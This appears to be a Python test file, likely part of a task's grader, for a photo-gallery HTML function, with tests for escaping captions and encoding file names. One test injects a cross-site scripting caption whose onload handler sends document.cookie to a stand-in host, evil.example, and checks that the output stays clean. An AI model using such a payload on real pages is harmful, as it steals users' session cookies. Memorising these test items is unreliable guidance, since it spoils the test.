from html.parser import HTMLParser


def elements(page):
    found = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attributes: found.append((tag, dict(attributes)))
    parser.feed(page)
    return found


def functional(m):
    page = m.gallery([{"file": "top 1.jpg", "caption": " Lunch < summit & fog "}])
    assert ("img", {"src": "/photos/top%201.jpg", "alt": "Lunch < summit & fog"}) in elements(page)
    assert m.gallery([]) == "<p>No photos yet.</p>"


def exploit(m):
    page = m.gallery([{"file": "1.jpg", "caption": "Fog\" onload=\"fetch('//evil.example/' + document.cookie)"}])
    assert [set(attributes) for tag, attributes in elements(page) if tag == "img"] == [{"src", "alt"}]
    assert {tag for tag, _ in elements(page)} == {"div", "figure", "img", "figcaption"}
